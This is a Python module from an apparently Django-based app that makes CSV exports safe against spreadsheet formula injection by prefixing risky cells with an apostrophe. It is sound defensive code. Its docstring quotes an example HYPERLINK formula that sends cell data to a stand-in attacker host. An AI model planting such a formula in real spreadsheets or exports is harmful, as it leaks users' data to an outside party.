"""The one way Cocreate writes CSV: every text cell is made formula-safe.

A spreadsheet reads a cell starting with = + - @ (or a tab or carriage return, which some strip first) as a formula:
`=HYPERLINK("https://evil.example/?"&A1, "Click")` in a statement would run in a facilitator's spreadsheet. Such
cells get a leading apostrophe, which spreadsheets show as text (OWASP's "CSV injection" advice). Numbers pass as
numbers."""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeCsvWriter:
    """`csv.writer` whose rows go through `safe_cell`."""

    def __init__(self, stream: Any):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_response(filename: str) -> tuple[HttpResponse, SafeCsvWriter]:
    """An attachment response and the safe writer that fills it."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response, SafeCsvWriter(response)
